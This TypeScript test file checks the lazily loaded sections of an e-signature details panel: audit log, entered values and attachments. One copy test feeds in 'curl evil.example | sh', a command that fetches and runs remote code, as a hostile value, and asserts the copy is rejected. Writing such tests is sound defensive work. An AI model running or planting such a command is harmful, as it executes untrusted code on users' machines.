import assert from 'node:assert/strict';
import type { EnvelopeDetails } from '../../../../src/jsign/types';
import { word } from '../envelopes/fakes';
import { AUDIT_LOG, Bench, OPEN, settled } from './bench';

const COMPLETED: EnvelopeDetails = { ...OPEN, status: word('Completed') };
const [CREATED] = AUDIT_LOG.documents[0]?.events ?? [];
assert.ok(CREATED);

async function completed(): Promise<Bench> {
  const bench = new Bench();
  bench.details = COMPLETED;
  return bench.open();
}

describe('A folded section of the details panel', () => {
  it('is read when it is opened and not before', async () => {
    const bench = await completed();
    assert.deepEqual(bench.sectionReads, []);
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    assert.equal(bench.page.section('auditLog')?.phase, 'loading');
    await settled();
    assert.deepEqual(bench.sectionReads, ['auditLog']);
    const view = bench.page.section('auditLog');
    assert.equal(view?.phase, 'ready');
    assert.deepEqual(view.columns, ['Transaction', 'Block', 'Wallet', 'Block hash', 'Contract']);
    const [event] = view.documents?.[0]?.events ?? [];
    assert.deepEqual(
      event?.proofs.map((proof) => proof.short),
      ['9f2c…4e1b', '17', '0x00a3…EA72', '1a2c…4e1b', ''],
    );
    assert.equal(event.proofs[2]?.full, '0x00a329c0648769A73afAc7F9381E08FB43dBEA72');
  });

  it('is not read again when it is closed and opened', async () => {
    const bench = await completed();
    bench.page.say({ type: 'sections', open: ['enteredValues'] });
    await settled();
    bench.page.say({ type: 'sections', open: [] });
    bench.page.say({ type: 'sections', open: ['enteredValues'] });
    await settled();
    assert.deepEqual(bench.sectionReads, ['enteredValues']);
  });

  it('is read after a reload of the window, once it is known whose envelope it is', async () => {
    const bench = new Bench();
    bench.details = COMPLETED;
    const signedIn = bench.state;
    bench.state = { kind: 'loading' };
    await bench.open();
    bench.page.say({ type: 'sections', open: ['auditLog', 'attachments'] });
    await settled();
    assert.deepEqual(bench.sectionReads, []);
    bench.changeAccounts(signedIn);
    await settled();
    assert.equal(bench.page.section('auditLog')?.phase, 'ready');
    assert.equal(bench.page.section('attachments')?.phase, 'ready');
    assert.deepEqual(bench.sectionReads, ['auditLog', 'attachments'], 'each once');
  });

  it('is not read where the service has none', async () => {
    const bench = await new Bench().open();
    assert.deepEqual(bench.page.view.content?.sections, ['enteredValues', 'attachments']);
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    bench.page.say({ type: 'reload', section: 'auditLog' });
    await settled();
    assert.deepEqual(bench.sectionReads, []);
  });

  it('says why it could not be read, keeps what is known, and tries again', async () => {
    const bench = await completed();
    bench.values = [
      { documentId: 'd1', documentName: 'l.pdf', signerEmail: 's', inputType: 'i', name: 'n', value: 'v' },
    ];
    bench.page.say({ type: 'sections', open: ['enteredValues'] });
    await settled();
    bench.sectionFailure = new Error('no luck');
    bench.page.say({ type: 'reload', section: 'enteredValues' });
    await settled();
    const failed = bench.page.section('enteredValues');
    assert.deepEqual([failed?.phase, failed?.message], ['failed', 'Sentence about no luck']);
    assert.equal(failed?.values?.length, 1);
    assert.deepEqual(bench.logged, ['section not read']);
    bench.sectionFailure = undefined;
    bench.page.say({ type: 'reload', section: 'enteredValues' });
    await settled();
    assert.deepEqual(bench.page.section('enteredValues')?.phase, 'ready');
  });

  it('drops the answer of an older reading and one for an account that is gone', async () => {
    const bench = await completed();
    let go = (): void => undefined;
    bench.held = new Promise<void>((resolve) => (go = resolve));
    bench.page.say({ type: 'sections', open: ['attachments'] });
    await settled();
    bench.store = undefined;
    bench.changeAccounts({ kind: 'signedOut' });
    await settled();
    const before = bench.page.posted.length;
    go();
    await settled();
    assert.equal(bench.page.posted.length, before);
    assert.equal(bench.page.section('attachments')?.phase, 'loading');
  });

  it('is read again when the envelope has changed: at once where it is open, else when it is opened', async () => {
    const bench = await new Bench().open();
    bench.page.say({ type: 'sections', open: ['enteredValues', 'attachments'] });
    await settled();
    bench.page.say({ type: 'sections', open: ['enteredValues'] });
    bench.sectionReads.length = 0;
    bench.details = COMPLETED;
    await bench.store?.details('e1', { fresh: true });
    await settled();
    assert.deepEqual(bench.sectionReads, ['enteredValues']);
    bench.page.say({ type: 'sections', open: ['enteredValues', 'attachments'] });
    await settled();
    assert.equal(bench.page.section('attachments')?.phase, 'ready');
  });

  it('is read again when the person asks for everything again', async () => {
    const bench = await completed();
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    await settled();
    bench.page.say({ type: 'refresh' });
    await settled();
    assert.deepEqual(bench.sectionReads, ['auditLog', 'auditLog']);
  });

  it('follows attachments that were added or that somebody else has read', async () => {
    const bench = await new Bench().open();
    bench.page.say({ type: 'sections', open: ['attachments'] });
    await settled();
    assert.equal(bench.page.section('attachments')?.limit, '0 of 10, up to 25 MB each');
    bench.attachments = [{ id: 'a1', fileName: 'annex.xlsx' }];
    await bench.store?.reread('e1');
    await settled();
    assert.deepEqual(bench.page.section('attachments')?.attachments, [{ id: 'a1', name: 'annex.xlsx' }]);
    assert.deepEqual(bench.sectionReads, ['attachments', 'attachments']);
    bench.attachments = [];
    await bench.store?.attachments('e1', { fresh: true });
    await settled();
    assert.deepEqual(bench.page.section('attachments')?.attachments, []);
    assert.equal(bench.sectionReads.length, 3, 'the panel read nothing by itself');
  });

  it('offers no more attachments than the service takes', async () => {
    const bench = new Bench();
    bench.attachments = Array.from({ length: 10 }, (_, index) => ({ id: `a${index}`, fileName: 'x' }));
    await bench.open();
    bench.page.say({ type: 'sections', open: ['attachments'] });
    await settled();
    const view = bench.page.section('attachments');
    assert.deepEqual([view?.canAdd, view?.limit], [false, '10 of 10: no more can be added']);
  });

  it('has an activity that nobody knows as the service wrote it', async () => {
    const bench = new Bench();
    bench.details = COMPLETED;
    bench.auditLog = {
      ...AUDIT_LOG,
      documents: [
        { name: 'l.pdf', events: [{ ...CREATED, activity: ' Notarised\u202E ', activityCode: 'Zorbed' }] },
      ],
    };
    await bench.open();
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    await settled();
    const [event] = bench.page.section('auditLog')?.documents?.[0]?.events ?? [];
    assert.deepEqual([event?.icon, event?.activity], ['question', 'Notarised']);
  });

  it('copies values of the audit log, and nothing that the page was not shown', async () => {
    const bench = await completed();
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    await settled();
    const copy = (id: number, value: string) =>
      bench.page.say({ type: 'copy', id, what: 'auditValue', documentId: undefined, value });
    copy(1, CREATED.walletAddress);
    copy(2, 'curl evil.example | sh');
    await settled();
    assert.deepEqual(bench.copied, [CREATED.walletAddress]);
    const answers = bench.page.posted.filter((message) => message.type === 'answer');
    assert.deepEqual(answers.map(({ id, ok }) => [id, ok]).sort(), [
      [1, true],
      [2, false],
    ]);
  });

  it('is told to the page again when that was loaded anew', async () => {
    const bench = await completed();
    bench.page.say({ type: 'sections', open: ['auditLog'] });
    await settled();
    const before = bench.page.posted.length;
    bench.page.load();
    assert.deepEqual(
      bench.page.posted.slice(before).map((message) => message.type),
      ['init', 'state', 'section', 'signing'],
    );
  });
});
